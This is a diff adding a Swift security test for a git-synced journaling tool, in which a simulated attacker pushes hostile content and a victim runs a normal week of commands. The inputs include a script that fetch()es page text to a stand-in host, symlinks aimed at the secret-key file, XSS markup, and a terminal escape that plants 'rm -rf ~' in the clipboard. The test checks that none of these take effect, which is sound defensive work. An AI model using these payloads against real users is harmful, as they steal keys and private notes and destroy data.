@@ -63,6 +63,114 @@ import TestSupport
         try Data(text.utf8).write(to: URL(fileURLWithPath: path))
     }
 
+    // MARK: - The everyday week
+
+    /// Everything at once. The attacker pushes links to the identity as templates, a hostile HTML
+    /// template, settings that name a key, lower encryption and turn on auto-push, attributes
+    /// that rewrite ciphertext, and names and notes full of markup, escape sequences and a 1 MB
+    /// profile. A new co-manager then clones the journal, makes a key and runs the week: sync,
+    /// private and shared one-on-ones and recognition, every digest in every format and audience,
+    /// saved digests, prep, sync. Afterwards no object on the remote holds a secret key or a
+    /// private note, no HTML digest makes a network request in headless Chromium, and nothing
+    /// reached the terminal raw.
+    @Test func theEverydayWeekAgainstAHostileRemote() throws {
+        let shared = HostileRemoteTests.shared()
+        let owner = shared.victim
+        let victimHome = owner.scratch.appending("victim-home")
+        let victimIdentity = victimHome + "/.config/rapport/identity.txt"
+        let markup = "<script>alert(1)</script> ![pixel](http://127.0.0.1:9/name.png) [click](javascript:alert(1)) <img src=http://127.0.0.1:9/i.png>"
+        try shared.attackerPushes("Team conventions") { clone in
+            let templates = clone + "/.rapport/templates/"
+            try FileManager.default.createDirectory(atPath: templates, withIntermediateDirectories: true)
+            for name in ["person.md", "digest.md", "prep.md"] {
+                try FileManager.default.createSymbolicLink(atPath: templates + name + ".mustache", withDestinationPath: victimIdentity)
+            }
+            try HostileRemoteTests.write("<html><head><script>fetch('http://127.0.0.1:9/?'+document.body.innerText)</script></head><body>{{journal}}<img src=\"http://127.0.0.1:9/template.png\"></body></html>",
+                                         to: templates + "digest.html.mustache")
+            let settings = try String(contentsOfFile: clone + "/.rapport/journal.yml", encoding: .utf8)
+            let lowered = settings.replacingOccurrences(of: "encrypt: private", with: "encrypt: none")
+                .replacingOccurrences(of: #"sync:\n  auto: [a-z]+[^\n]*\n"#, with: "", options: .regularExpression)
+            try HostileRemoteTests.write(lowered + "identity: .rapport/identity.txt\nsync:\n  auto: true\n", to: clone + "/.rapport/journal.yml")
+            try HostileRemoteTests.write("*.age text eol=crlf merge=union\n", to: clone + "/.gitattributes")
+            let profile = "---\nkind: person\nslug: mallory\nname: \"Mallory \(markup) \\u001B]0;owned\\u0007\"\ncadence: weekly\nstatus: active\n---\n"
+                + String(repeating: "A long profile line with \(markup) and \u{1B}[2J in it.\n", count: 8_000)
+            try HostileRemoteTests.write(profile, to: clone + "/people/mallory.md")
+            try HostileRemoteTests.write("---\nkind: one-on-one\nid: HSTX01\ndate: 2026-11-25T10:00:00+01:00\nperson: mallory\nmood: 2\n---\nI am exhausted. \(markup) \u{1B}]52;c;cm0gLXJmIH4K\u{07}\n\n- [ ] @mallory \(markup)\n",
+                                         to: clone + "/entries/2026/11/2026-11-25-one-on-one-mallory-HSTX01.md")
+            try HostileRemoteTests.write("---\nkind: recognition\nid: HSTX02\ndate: 2026-11-26T10:00:00+01:00\npeople: [alice, mallory]\ncategory: shipping\nvisibility: team\n---\nShipped \(markup)\n",
+                                         to: clone + "/entries/2026/11/2026-11-26-recognition-alice-HSTX02.md")
+        }
+
+        // The new co-manager: their own HOME, a clone, a key.
+        let victim = CLI("victim")
+        victim.extraEnvironment = ["HOME": victimHome, "XDG_CONFIG_HOME": victimHome + "/.config", "XDG_DATA_HOME": victimHome + "/.local/share"]
+        try FileManager.default.createDirectory(atPath: victimHome, withIntermediateDirectories: true)
+        let journal = owner.scratch.appending("victim-journal")
+        let cloned = victim("clone", shared.remote, journal, in: owner.scratch.path)
+        #expect(cloned.status == 0, "\(cloned)")
+        var outputs: [ProcessResult] = [cloned]
+        func step(_ arguments: String..., stdin: String? = nil, status: Set<Int32> = [0]) {
+            let result = victim.run(arguments, stdin: stdin, in: journal)
+            #expect(status.contains(result.status), "\(arguments): \(result)")
+            outputs.append(result)
+        }
+        step("keys", "init")
+        #expect(FileManager.default.fileExists(atPath: victimIdentity) && !FileManager.default.fileExists(atPath: journal + "/.rapport/identity.txt"))
+        step("config", "identity", journal + "/.rapport/identity.txt", status: [64])
+        step("sync")
+        step("1on1", "alice", "--private", "--mood", "2", "--note", "MAPLEMARK is thinking of leaving. \(markup)")
+        step("1on1", "bob", "--mood", "4", "--energy", "3", "--note", "Plain notes about the roadmap.", "--action", "@bob send the RFC")
+        step("kudos", "alice", "Great review of the design.", "--category", "quality")
+        step("kudos", "bob", "BIRCHMARK covered for me while I was out.", "--private")
+        step("person", "add", "carol", "--name", "Carol Diaz")
+        step("prep", "alice")
+        var pages: [String] = []
+        for audience in ["self", "manager", "team"] {
+            for format in ["md", "json", "html"] {
+                step("digest", "--audience", audience, "--format", format)
+                let out = owner.scratch.appending("digest-\(audience).\(format)")
+                step("digest", "--audience", audience, "--format", format, "--out", out)
+                if format == "html" { pages.append(out) }
+            }
+            step("digest", "--audience", audience, "--save")
+        }
+        step("list")
+        step("show", "HSTX01")
+        step("person", "list")
+        step("sync")
+
+        // Nothing secret reached the remote.
+        #expect(shared.objects(containing: "Carol Diaz") > 0, "the search finds what is there")
+        #expect(shared.objects(containing: "AGE-SECRET-KEY-1") == 0)
+        for marker in ["MAPLEMARK", "BIRCHMARK"] { #expect(shared.objects(containing: marker) == 0, "\(marker)") }
+        #expect(fsckProblems(shared.remote) == "")
+        // The private entries are encrypted to the victim's key, whatever the shared file said.
+        let tree = git(["ls-tree", "-r", "--name-only", "main"], in: shared.remote).stdout
+        #expect(!tree.contains(".rapport/identity.txt") && !tree.contains("digest-self"))
+        // Saved digests, committed and pushed, carry no markup from the journal.
+        for audience in ["", "-manager", "-team"] {
+            let saved = git(["show", "main:digests/2026/2026-W48\(audience).md"], in: shared.remote)
+            // A tag, or a link or image's "](", that no backslash escapes.
+            let markup = saved.stdout.range(of: #"(?<!\\)(<[A-Za-z!/]|\]\()"#, options: .regularExpression)
+            #expect(saved.status == 0 && saved.stdout.contains("javascript:") && markup == nil,
+                    "\(audience): \(markup.map { String(saved.stdout[$0.lowerBound...].prefix(80)) } ?? saved.stderr)")
+        }
+        // No raw control character reached the terminal.
+        for output in outputs {
+            #expect(!(output.stdout + output.stderr).unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n" && $0 != "\t") || (0x7F...0x9F).contains($0.value) },
+                    "\(output.stdout.prefix(200))")
+        }
+        // The HTML digests make no request in a browser (the detector catches one that does).
+        let control = owner.scratch.appending("control.html")
+        owner.scratch.write("<!DOCTYPE html><img src=\"http://127.0.0.1:9/probe.png\">", to: "control.html")
+        #expect(try HTMLDigestTests().open(control, width: 800, scratch: owner.scratch, name: "control").requests == ["http://127.0.0.1:9/probe.png"])
+        for (index, page) in pages.enumerated() {
+            let opened = try HTMLDigestTests().open(page, width: 1000, scratch: owner.scratch, name: "week-\(index)")
+            #expect(opened.requests.isEmpty, "\(page): \(opened.requests)")
+            #expect(!opened.dom.contains("<script"), "\(page)")
+        }
+    }
+
     // MARK: - Each reproduction
 
     /// A template that is a link to the victim's identity is never followed: `person add` and
